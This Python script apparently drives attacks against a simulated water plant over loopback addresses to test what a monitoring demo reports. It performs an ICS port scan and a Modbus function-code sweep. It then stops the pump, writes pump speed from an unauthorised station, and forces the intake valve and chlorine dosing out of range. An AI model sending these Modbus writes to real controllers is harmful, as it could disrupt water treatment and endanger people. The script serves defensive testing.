#!/usr/bin/env python3
"""Attacks the demonstration plant over the loopback: what ./run must show in its summary.

usage: attack.py --network 127.62 --port 502

Only addresses below 127.0.0.0/8 are accepted. Standard library only.
"""

import argparse
import errno
import socket
import struct
import sys

SCANNED_PORTS = (21, 22, 23, 80, 102, 443, 502, 1502, 2404, 4840, 20000, 44818)
SCANNED_HOSTS = range(1, 31)
WRITING_FUNCTIONS = {5, 6, 15, 16, 20, 21, 22, 23, 24}
INTAKE_VALVE = 100
PUMP_SPEED = 101
PUMP_RUNS = 0
CHLORINE = 200


class Modbus:
    """One Modbus/TCP connection from a source address of our choice."""

    def __init__(self, source, server, port):
        self.socket = socket.create_connection((server, port), timeout=2, source_address=(source, 0))
        self.transaction = 0

    def ask(self, pdu, unit=1):
        self.transaction += 1
        self.socket.sendall(struct.pack(">HHHB", self.transaction, 0, len(pdu) + 1, unit) + pdu)
        header = self.receive(7)
        return self.receive(struct.unpack(">H", header[4:6])[0] - 1)

    def receive(self, count):
        data = b""
        while len(data) < count:
            part = self.socket.recv(count - len(data))
            if not part:
                raise ConnectionError("the controller closed the connection")
            data += part
        return data

    def read_holding(self, first):
        answer = self.ask(struct.pack(">BHH", 3, first, 1))
        return struct.unpack(">H", answer[2:4])[0]

    def write_register(self, address, value):
        return self.ask(struct.pack(">BHH", 6, address, value))

    def close(self):
        self.socket.close()


def scan(source, network, port):
    """Knocks at many ports of many hosts, as a worm that looks for prey would."""
    found = []
    for host in SCANNED_HOSTS:
        for target in sorted(set(SCANNED_PORTS) | {port}):
            knock = socket.socket()
            knock.bind((source, 0))
            knock.settimeout(0.2)
            if knock.connect_ex((f"{network}.10.{host}", target)) == 0:
                found.append((host, target))
            knock.close()
    return found


def sweep_functions(source, network, port):
    """Asks one controller for every function code that does not write."""
    controller = Modbus(source, f"{network}.10.11", port)
    answered = []
    for code in range(1, 128):
        if code in WRITING_FUNCTIONS:
            continue
        body = struct.pack(">HH", 0, 1) if code <= 4 or code == 8 else b""
        answer = controller.ask(bytes([code]) + body)
        if not answer[0] & 0x80:
            answered.append(code)
    controller.close()
    return answered


def unknown_client(source, network, port):
    """Reads, stops the pump and asks for a restart from an address that the plant does not know."""
    controller = Modbus(source, f"{network}.10.11", port)
    speed = controller.read_holding(PUMP_SPEED)
    controller.ask(struct.pack(">BHH", 5, PUMP_RUNS, 0))
    controller.ask(struct.pack(">BHH", 8, 1, 0))  # restart communications; refused, and seen all the same
    controller.close()
    return speed


def forbidden_write(network, port):
    """The engineering station may look, not write: here somebody uses it to drive the pump."""
    controller = Modbus(f"{network}.20.31", f"{network}.10.11", port)
    controller.write_register(PUMP_SPEED, 100)
    controller.close()


def allowed_writer(network, port):
    """The operator station may move valve and chlorine, but neither this far nor out of their range."""
    station = f"{network}.20.21"
    intake = Modbus(station, f"{network}.10.11", port)
    valve = intake.read_holding(INTAKE_VALVE)
    intake.write_register(INTAKE_VALVE, valve + 50 if valve <= 50 else valve - 50)
    intake.write_register(INTAKE_VALVE, 4500)
    intake.close()
    dosing = Modbus(station, f"{network}.10.12", port)
    registers = struct.pack(">f", 9.5)
    dosing.ask(struct.pack(">BHHB", 16, CHLORINE, 2, 4) + registers)
    dosing.close()


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--network", default="127.62")
    parser.add_argument("--port", type=int, default=502)
    arguments = parser.parse_args()
    network, port = arguments.network, arguments.port
    if not network.startswith("127."):
        parser.error("only loopback networks are attacked")
    intruder = f"{network}.99.66"
    try:
        found = scan(intruder, network, port)
        print(f"attack: {intruder} scanned {network}.10.0/24, {len(found)} open ports")
        print(f"attack: {intruder} swept function codes of plc-intake, {len(sweep_functions(intruder, network, port))} answered")
        unknown_client(intruder, network, port)
        print(f"attack: {intruder}, unknown to the plant, stopped the pump and asked for a restart")
        forbidden_write(network, port)
        print("attack: eng-1 wrote pump-speed, which no rule allows")
        allowed_writer(network, port)
        print("attack: hmi-1 moved intake-valve by 50 at once, then wrote 4500, and 9.5 mg/L chlorine")
    except OSError as error:
        name = errno.errorcode.get(error.errno, type(error).__name__)
        print(f"attack: the plant does not answer ({name}: {error})", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
